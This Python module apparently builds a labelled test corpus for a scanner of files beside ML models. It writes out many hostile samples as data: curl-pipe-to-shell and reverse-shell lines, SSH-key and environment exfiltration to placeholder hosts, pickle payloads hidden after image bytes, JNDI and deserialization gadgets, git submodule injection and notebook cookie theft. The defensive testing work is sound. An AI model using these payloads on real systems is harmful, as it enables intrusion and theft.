"""Files beside models that act by other programs than loaders of models, and ordinary ones of their kinds."""

import base64
import json
import sqlite3
from collections.abc import Iterator
from typing import Any

from tests.attack.corpus.case import Case, Label, fixed
from tests.attack.corpus.graphs import field

__all__ = ["cases"]

Lines = Iterator[tuple[str, str, Label, Any]]
FETCHED = "curl -fsSL http://evil.invalid/x.sh | sh"
PLANTED = 'echo "* * * * * true" | crontab -'
OPENED = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
CODE = "__import__('os').system('true')"
OPTION = "--index-" + "url"
CLIMB = "{{ ''.__class__.__mro__ }}"
STORED = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94."
PNG_END = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\xaeB`\x82"
SKOPS = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": "true"}


def _editors() -> Lines:
    task = {"label": "x", "type": "shell", "command": FETCHED, "runOptions": {"runOn": "folderOpen"}}
    yield "tasks", ".vscode/tasks.json", "malicious", {"version": "2.0.0", "tasks": [task]}
    harmless = {**task, "command": "true"}
    commented = "// made by hand\n" + json.dumps({"tasks": [harmless]})[:-2] + ",],}"
    yield "tasks-commented", ".vscode/tasks.json", "policy", commented
    yield "tasks-asked", ".vscode/tasks.json", "benign", {"tasks": [{"label": "x", "command": "make test"}]}
    yield "container", "devcontainer.json", "malicious", {"image": "x", "postCreateCommand": FETCHED}
    yield "container-host", "devcontainer.json", "policy", {"image": "x", "initializeCommand": "true"}
    ordinary = {"image": "x", "postCreateCommand": "pip install -r requirements.txt"}
    yield "container-plain", "devcontainer.json", "benign", ordinary
    yield "tools", ".mcp.json", "policy", {"mcpServers": {"x": {"command": "sh", "args": ["-c", "true"]}}}
    yield "settings", ".vscode/settings.json", "policy", {"git.path": "./evil", "editor.tabSize": 2}
    yield "settings-plain", ".vscode/settings.json", "benign", {"editor.tabSize": 2, "python.analysis": "on"}
    kernel = {"display_name": "x", "language": "python"}
    yield "kernel", "kernel.json", "policy", {**kernel, "argv": ["/bin/sh", "-c", "true"]}
    yield "kernel-plain", "kernel.json", "benign", {**kernel, "argv": ["python3", "-m", "ipykernel_launcher"]}


def _chains() -> Lines:
    prompt = {"_type": "prompt", "template_format": "jinja2", "template": CLIMB}
    yield "address", "agent.json", "malicious", {"_type": "llm-math", "llm_chain_path": "http://x.invalid/c"}
    yield "template", "prompt.json", "malicious", prompt
    yield "pal", "chain.json", "malicious", {"_type": "pal_chain", "get_answer_expr": CODE}
    yield "pal-plain", "chain.json", "policy", {"_type": "pal_chain", "get_answer_expr": "print(solution())"}
    yield "shell", "chain.yaml", "policy", "_type: llm_bash_chain\nllm:\n  _type: openai\n"
    made = {"lc": 1, "type": "constructor", "kwargs": {}}
    yield "object", "o.json", "malicious", {**made, "id": ["os", "system"]}
    own = ["langchain_core", "prompts", "prompt", "PromptTemplate"]
    yield "object-own", "o.json", "benign", {**made, "id": own}
    secret = {"x": {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}}
    yield "secret", "o.json", "policy", secret
    ordinary = {"_type": "prompt", "template_format": "f-string", "template": "Tell me of {topic}."}
    yield "prompt", "prompt.json", "benign", ordinary
    yield "component", "team.json", "malicious", {"provider": "subprocess.Popen", "component_type": "tool"}
    yield (
        "haystack",
        "p.yaml",
        "malicious",
        "components:\n  a:\n    type: os.system\n    init_parameters: {}\n",
    )
    spark = {"paramMap": {}, "sparkVersion": "3.5.0", "uid": "x"}
    yield "spark", "metadata.json", "malicious", {**spark, "class": "os.system"}
    yield "spark-own", "metadata.json", "benign", {**spark, "class": "org.apache.spark.ml.PipelineModel"}


def _values() -> Lines:
    for key in ("expression", "reward_function", "preTransform", "hook"):
        yield f"evaluated-{key}", "config.json", "malicious", {"model": {key: CODE}}
    yield "evaluated-yaml", "config.yaml", "malicious", f'x:\n  filter_fn: "{CODE}"\n'
    yield "evaluated-toml", "config.toml", "malicious", f'[tool]\nscript = "{CODE}"\n'
    yield "code", "config.json", "policy", {"thing": CODE}
    yield "said", "config.json", "benign", {"description": f"Never write {CODE}."}
    yield "resolved", "config.yaml", "malicious", 'a: ${eval:"' + CODE + '"}\n'
    yield "leaked", "config.yaml", "policy", "url: https://x.invalid/?k=${oc.env:AWS_SECRET_ACCESS_KEY}\n"
    yield "environment", "config.yaml", "benign", "folder: ${oc.env:HOME}/data\n"
    yield "gadget", "x.json", "malicious", {"@type": "com.sun.rowset.JdbcRowSetImpl", "autoCommit": True}
    provider = "System.Windows.Data.ObjectDataProvider, PresentationFramework"
    yield "gadget-net", "x.json", "malicious", {"$type": provider}
    yield "lookup", "x.json", "malicious", {"user": "${jndi:ldap://x.invalid/a}"}
    yield "pickle", "x.json", "malicious", {"blob": base64.b64encode(STORED).decode()}
    yield "java", "x.json", "policy", {"blob": base64.b64encode(b"\xac\xed\x00\x05sr" + b"x" * 40).decode()}
    slow = {"model": {}, "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}}}
    yield "slow", "tokenizer.json", "policy", slow
    usual = r"(?i:'s|'t|'re)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s+(?!\S)|\s+"
    slow["pre_tokenizer"] = {"type": "Split", "pattern": {"Regex": usual}}
    yield "usual", "tokenizer.json", "benign", json.loads(json.dumps(slow))
    yield "digits", "config.json", "policy", '{"n": ' + "9" * 5000 + "}"
    yield "index", "model.safetensors.index.json", "policy", {"weight_map": {"a": "weights.pkl"}}
    yield "generate", "generation_config.json", "policy", {"custom_generate": "somebody/decoding"}
    yield "pipeline", "model_index.json", "malicious", {"_class_name": "P", "unet": ["../evil", "Unet"]}
    yield "library", "genai_config.json", "malicious", {"custom_ops_library": "../../evil.so"}
    blocks = {"_diffusers_version": "1", "up_block_types": ["CrossUp", "Up"], "_class_name": "UNet"}
    yield "blocks", "config.json", "benign", blocks
    yield "skops", "schema.json", "malicious", SKOPS
    hidden = {"content": {"padding": "x" * 6000, "inner": SKOPS}, "__class__": "dict"}
    yield "skops-late", "schema.json", "malicious", hidden
    yield "reduce", "x.json", "malicious", {"__reduce__": ["os.system", ["true"]]}
    yield "rights", "docker-compose.yml", "policy", "services:\n  a:\n    privileged: true\n"
    yield "volume", "docker-compose.yml", "policy", 'services:\n  a:\n    volumes: ["/:/host"]\n'
    yield "service", "docker-compose.yml", "benign", 'services:\n  a:\n    volumes: ["./data:/data"]\n'
    yield "workflow", "ci.yml", "malicious", f"jobs:\n  a:\n    steps:\n      - run: {json.dumps(OPENED)}\n"
    yield "project", "project.yml", "policy", f"commands:\n  - name: a\n    script:\n      - '{FETCHED}'\n"
    train = "commands:\n  - name: train\n    script:\n      - 'python -m spacy train config.cfg -o out'\n"
    yield "project-plain", "project.yml", "benign", train
    yield "served", "MANIFEST.json", "malicious", {"model": {"handler": "../../evil.py", "modelName": "m"}}
    yield "conda", "conda.yaml", "policy", "dependencies:\n- pip:\n  - git+https://evil.invalid/x.git\n"
    yield "conda-plain", "conda.yaml", "benign", "dependencies:\n- python=3.11\n- pip:\n  - torch==2.4.0\n"
    yield "npm", "package.json", "policy", {"name": "x", "dependencies": {"a": "http://evil.invalid/a.tgz"}}


def _settings() -> Lines:
    yield "pipe", "conf/ivector.conf", "malicious", "--cmvn-config=/bin/true |\n"
    yield "pipe-out", "conf/x.conf", "malicious", "--lda=ark:| sh -c true\n"
    yield "pipe-list", "wav.scp", "malicious", "u1 cat /etc/passwd |\n"
    yield "pipe-sound", "wav.scp", "policy", "u1 sph2pipe -f wav a.sph |\nu2 sph2pipe -f wav b.sph |\n"
    yield "list", "wav.scp", "benign", "u1 a/b.wav\nu2 c.wav\n"
    yield "plain", "conf/mfcc.conf", "benign", "--use-energy=false\n# a | table |\n--sample-frequency=16000\n"
    yield "registered", "config.cfg", "policy", '[initialize.before_init]\n@callbacks = "evil.exec.v1"\n'
    own = '[a]\n@architectures = "spacy.TransitionBasedParser.v2"\n@optimizers = "Adam.v1"\nfactory = "tagger"\n'
    yield "registered-own", "config.cfg", "benign", own
    for name, line in (
        ("option", "\turl = -u./payload"),
        ("transport", '\turl = "ext::sh -c true"'),
        ("update", "\tupdate = !true"),
        ("climbing", "\tpath = ../../x"),
    ):
        yield f"git-{name}", ".gitmodules", "malicious", f'[submodule "x"]\n{line}\n'
    yield "git-monitor", ".gitconfig", "malicious", "[core]\n\tfsmonitor = touch x\n"
    plain = '[submodule "x"]\n\tpath = x\n\turl = https://github.com/a/b.git\n'
    yield "git-plain", ".gitmodules", "benign", plain
    yield "index", "requirements.txt", "policy", f"torch\n{OPTION} http://evil.invalid/simple\n"
    yield "address", "requirements-dev.txt", "policy", "evil @ https://evil.invalid/evil-1.0.tar.gz\n"
    extra = OPTION.replace("--", "--extra-")
    known = f"torch>=2\n{extra} https://download.pytorch.org/whl/cu124\ngit+https://github.com/a/b@v1\n"
    yield "packages", "requirements.txt", "benign", known
    yield "model", "Modelfile", "malicious", "FROM ../../../../etc/passwd\n"
    yield "adapter", "Modelfile", "malicious", "FROM llama3\nADAPTER /root/.ssh/id_rsa\n"
    plain = 'FROM ./model.gguf\nPARAMETER stop "x"\nTEMPLATE """{{ .Prompt }}"""\n'
    yield "model-plain", "Modelfile", "benign", plain
    yield "jsonnet", "train.jsonnet", "malicious", "local x = importstr '/etc/passwd'; {}\n"
    yield "jsonnet-plain", "train.jsonnet", "benign", "local lr = 1e-5;\n{ trainer: { lr: lr } }\n"


def _programs() -> Lines:
    for number_, file_name in enumerate(("install.sh", "Makefile", "Dockerfile", "postBuild", ".envrc")):
        yield f"fetched-{number_}", file_name, "policy", f"RUN {FETCHED}\n"
        yield f"planted-{number_}", file_name, "malicious", f"x:\n\t{PLANTED}\n"
        yield f"opened-{number_}", file_name, "malicious", f"x:\n\t{OPENED}\n"
    for number_, line in enumerate(
        (
            "powershell -nop -w hidden -enc ZQBjAGgAbwA=",
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')\"",
            "mshta http://x.invalid/a.hta",
            "nc -e /bin/sh 192.0.2.1 4444",
            "cat ~/.ssh/id_rsa | curl -d @- http://x.invalid",
            "env | curl -d @- http://x.invalid",
            "echo aGk= | base64 -d | sh",
            "rm -rf --no-preserve-root /",
            "echo x >> ~/.ssh/authorized_keys",
            "python3 -c \"exec(__import__('zlib').decompress(b''))\"",
        )
    ):
        yield f"attack-{number_}", "run.sh", "malicious", f"#!/bin/sh\n{line}\n"
    cradle = "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('x')\""
    yield "cradle", "readme.txt", "malicious", cradle
    image = "FROM python:3.11\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n"
    yield "image", "Dockerfile", "benign", image
    yield "known", "install.sh", "benign", "#!/bin/sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n"
    weights = "#!/bin/sh\ncurl -L -o m.bin https://huggingface.co/a/b/resolve/main/m.bin\n"
    yield "download", "get.sh", "benign", weights
    yield "r", "predict.R", "policy", 'x <- 1\nsystem("true")\n'
    yield "r-parsed", "predict.R", "policy", 'eval(parse(text = readLines("x")))\n'
    yield (
        "r-plain",
        "predict.R",
        "benign",
        '# system("x")\nfit <- lm(y ~ x)\nprint(system.time(summary(fit)))\n',
    )
    yield "js", "index.mjs", "policy", "import { execSync } from 'node:child_process'\n"
    yield "js-plain", "index.js", "benign", "export const f = (x) => x.map((y) => /a/.exec(y))\n"
    yield "julia", "run.jl", "policy", "run(`true`)\n"
    yield "php", "x.php", "policy", "<?php system($_GET['c']); ?>\n"
    yield "startup", "sitecustomize.py", "policy", "x = 1\n"
    yield "path-file", "x.pth", "malicious", "import os; os.system('true')\n"
    name = "b = __builtins__\nb = b if isinstance(b, dict) else vars(b)\nb['ex' + 'ec']('1')\n"
    yield "looked-up", "tokenization_x.py", "malicious", name
    yield "writes", "modeling_x.py", "policy", "open('/tmp/mark', 'w')\n"


def _markup() -> Lines:
    include = '<xi:include href="file:///etc/passwd" parse="text"/>'
    yield (
        "included",
        "net.xml",
        "malicious",
        f'<net xmlns:xi="http://www.w3.org/2001/XInclude">{include}</net>',
    )
    decoder = (
        '<java version="1" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>'
    )
    yield "decoder", "x.xml", "malicious", decoder
    layer = '<CustomLayer name="R"><Kernel><Source filename="../../x.cl"/></Kernel></CustomLayer>'
    yield "kernel", "k.xml", "malicious", layer
    beyond = '<data offset="99999999999" size="18446744073709551615"/>'
    yield "beyond", "model.xml", "malicious", f'<?xml version="1.0"?><net><layers>{beyond}</layers></net>'
    within = '<data element_type="f32" shape="4" offset="0" size="16"/>'
    yield "within", "model.xml", "benign", f'<?xml version="1.0"?><net><layers>{within}</layers></net>'
    style = '<?xml-stylesheet type="text/xsl" href="http://x.invalid/x.xsl"?>'
    yield "style", "m.pmml", "policy", f'<?xml version="1.0"?>{style}<PMML version="4.2"/>'
    yield "ant", "build.xml", "policy", '<?xml version="1.0"?><project><exec executable="sh"/></project>'
    relation = (
        '<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://x.invalid"/>'
    )
    yield "template", "x.rels", "malicious", f'<?xml version="1.0"?><Relationships>{relation}</Relationships>'


def _notebook(source: str = "1", html: str = "", kind: str = "code") -> dict[str, Any]:
    outputs = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": [html]}}] if html else []
    cell = {"cell_type": kind, "metadata": {}, "outputs": outputs, "source": [source]}
    return {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def _notebooks() -> Lines:
    sent = '<script>fetch("//x.invalid/"+document.cookie)</script>'
    yield "cookie", "x.ipynb", "malicious", _notebook(html=sent)
    commanded = "<script>Jupyter.notebook.kernel.execute('1')</script>"
    yield "commanded", "x.ipynb", "malicious", _notebook(html=commanded)
    yield "fetching", "x.ipynb", "policy", _notebook(html='<script src="http://x.invalid/a.js"></script>')
    yield (
        "said",
        "x.ipynb",
        "malicious",
        _notebook('<img src=x onerror="fetch(document.cookie)">', "", "markdown"),
    )
    yield "drawn", "x.ipynb", "benign", _notebook(html='<script>Plotly.newPlot("a", [])</script>')
    yield "table", "x.ipynb", "benign", _notebook(html="<table><tr><td>1</td></tr></table>")
    explained = "Use `<script>`:\n```html\n<script>x</script>\n```\n"
    yield "explained", "x.ipynb", "benign", _notebook(explained, "", "markdown")


def _bytes() -> Iterator[tuple[str, str, Label, bytes]]:
    yield "java-gadget", "m.ser", "malicious", b"\xac\xed\x00\x05sr\x00\x3aorg.apache.InvokerTransformer"
    yield "java", "m.ser", "policy", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(20)
    yield "java-renamed", "model.bin", "policy", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(20)
    net = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00"
    yield "net-gadget", "m.dat", "malicious", net + b"\0\0\0\0\x0cSystem.Diagnostics.Process"
    yield "net", "m.dat", "policy", net + b"\0\0\0\0\x0cMyModel.Weights"
    yield "behind-picture", "x.png", "malicious", PNG_END + STORED
    yield "picture", "x.png", "benign", PNG_END
    yield "behind-jpeg", "x.jpg", "malicious", b"\xff\xd8\xff\xe0abc\xff\xd9" + STORED
    yield "behind-sound", "x.wav", "malicious", b"RIFF\x04\0\0\0WAVE" + STORED
    yield "in-store", "shelf.db", "malicious", b"\xce\x9aW\x13" + bytes(100) + STORED
    yield "in-map", "data.mdb", "malicious", bytes(16) + b"\xde\xc0\xef\xbe" + bytes(100) + STORED
    yield "in-map-words", "data.mdb", "benign", bytes(16) + b"\xde\xc0\xef\xbe" + bytes(99) + b"posix system"
    database = sqlite3.connect(":memory:")
    database.execute("create table a (b)")
    yield "database", "x.db", "benign", database.serialize()
    database.execute("create view v as select load_extension('evil.so')")
    yield "database-view", "x.db", "policy", database.serialize()
    yield "database-value", "y.db", "malicious", _with_value()
    layer = 'layer {{ type: "Python" python_param {{ module: "{}" layer: "L" }} }}\n'
    yield "caffe-acting", "deploy.prototxt", "malicious", layer.format("os").encode()
    yield "caffe-own", "deploy.prototxt", "policy", layer.format("my_layers").encode()
    yield "caffe-solver", "solver.prototxt", "malicious", b'net: "a"\nsnapshot_prefix: "/etc/cron.d/x"\n'
    yield "caffe-plain", "deploy.prototxt", "benign", b'name: "n"\nlayer { name: "d" type: "Data" }\n'
    yield "caffe-binary-acting", "x.caffemodel", "malicious", _python_layer("subprocess")
    yield "caffe-binary-own", "x.caffemodel", "policy", _python_layer("my_layers")
    yield "r-call", "formula.rds", "policy", _lines(6, 1, 9, 6, "system", 2, 16, 1, 9, 4, "true", 254)
    yield "r-formula", "formula.rds", "benign", _lines(6, 1, 9, 3, "lmx", 2, 16, 1, 9, 4, "true", 254)


def _python_layer(module: str) -> bytes:
    parameters = field(130, field(1, module) + field(2, "L"))
    return field(100, field(1, "a") + field(2, "Python") + parameters)


def _with_value() -> bytes:
    database = sqlite3.connect(":memory:")
    database.execute("create table a (b)")
    database.execute("insert into a values (?)", (STORED,))
    database.commit()
    return database.serialize()


def _lines(*parts: object) -> bytes:
    return "\n".join(map(str, ("A", 2, 197888, 131840, *parts))).encode() + b"\n"


def _graphs() -> Iterator[tuple[str, str, Label, bytes]]:
    places: tuple[tuple[str, Label], ...] = (
        ("/etc/passwd", "malicious"), ("../../x", "malicious"), ("vocab.txt", "benign"),
    )  # fmt: skip
    for place, label in places:
        stem = place.strip("./").replace("/", "-")
        for operator in ("InitializeTableFromTextFileV2", "SaveV2"):
            graph = _constant("p", place) + _node("s", operator, "t", "i")
            yield f"{operator}-{stem}", "graph.pb", label, graph
        lines = (
            f'node {{ name: "p" op: "Const" attr {{ value {{ tensor {{ string_val: "{place}" }} }} }} }}\n'
        )
        yield f"text-{stem}", "graph.pbtxt", label, lines.encode()


def _node(name: str, operator: str, *inputs: str) -> bytes:
    given = b"".join(field(3, given) for given in inputs)
    return field(1, field(1, name) + field(2, operator) + given)


def _constant(name: str, value: str) -> bytes:
    tensor = field(1, 7) + field(8, value)
    attribute = field(1, "value") + field(2, field(8, tensor))
    constant = field(1, field(1, name) + field(2, "Const") + field(5, attribute))
    return constant + field(1, field(1, "i") + field(2, "Identity") + field(3, name))


def cases() -> Iterator[Case]:
    """All of them, by what opens them."""
    for family, found in (
        ("editor", _editors()),
        ("chain", _chains()),
        ("json-value", _values()),
        ("settings", _settings()),
        ("program", _programs()),
        ("xml-neighbour", _markup()),
        ("notebook-output", _notebooks()),
        ("stored", _bytes()),
        ("tensorflow-path", _graphs()),
    ):
        for name, file_name, label, content in found:
            written = content if isinstance(content, (bytes, str)) else json.dumps(content)
            data = written.encode() if isinstance(written, str) else written
            yield Case(family, name, file_name, label, fixed(data))
